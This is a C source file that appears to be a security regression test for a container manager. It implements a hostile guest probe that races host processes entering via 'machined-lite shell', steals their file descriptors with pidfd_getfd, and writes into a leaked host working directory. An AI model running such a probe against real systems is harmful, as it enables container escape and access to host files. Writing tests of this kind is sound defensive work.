/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* A hostile guest's probe (test-shell.sh): as root of its machine, it spins on the PIDs
 * that `machined-lite shell` entries are about to get and tries to take what each
 * entering process holds: its fds (pidfd_getfd) and its working directory (a host
 * directory, if it still had the caller's: argv[1] names a file only that one holds).
 * Prints one line per process it caught ("saw PID"), one per thing it took ("GRABBED"),
 * and runs until killed. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#define TRACKED 4096

int main(int argc, char *argv[])
{
        static char seen[TRACKED];
        pid_t self = getpid();

        if (argc < 2)
                return 2;
        setvbuf(stdout, NULL, _IOLBF, 0);
        for (;;) {
                char buf[64];
                int fd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);
                ssize_t n = fd >= 0 ? read(fd, buf, sizeof(buf) - 1) : -1;
                long last;

                if (fd >= 0)
                        close(fd);
                if (n <= 0)
                        continue;
                buf[n] = '\0';
                last = strtol(buf, NULL, 10);
                for (pid_t pid = (pid_t)last - 1; pid <= (pid_t)last + 2; pid++) {
                        char path[PATH_MAX], target[PATH_MAX];
                        int pidfd;

                        if (pid <= 1 || pid == self || pid >= TRACKED)
                                continue;
                        pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
                        if (pidfd < 0)
                                continue;
                        if (!seen[pid]) {
                                seen[pid] = 1;
                                printf("saw %d\n", (int)pid);
                        }
                        for (int i = 3; i < 64; i++) {
                                int taken = (int)syscall(SYS_pidfd_getfd, pidfd, i, 0);

                                if (taken < 0)
                                        continue;
                                snprintf(path, sizeof(path), "/proc/self/fd/%d", taken);
                                n = readlink(path, target, sizeof(target) - 1);
                                target[n > 0 ? n : 0] = '\0';
                                printf("GRABBED fd %d of PID %d: %s\n", i, (int)pid, target);
                                close(taken);
                        }
                        snprintf(path, sizeof(path), "/proc/%d/cwd/%s", (int)pid, argv[1]);
                        if (access(path, F_OK) == 0) {
                                printf("GRABBED the host cwd of PID %d\n", (int)pid);
                                snprintf(path, sizeof(path), "/proc/%d/cwd/written-by-guest", (int)pid);
                                close(open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644));
                        }
                        close(pidfd);
                }
        }
}
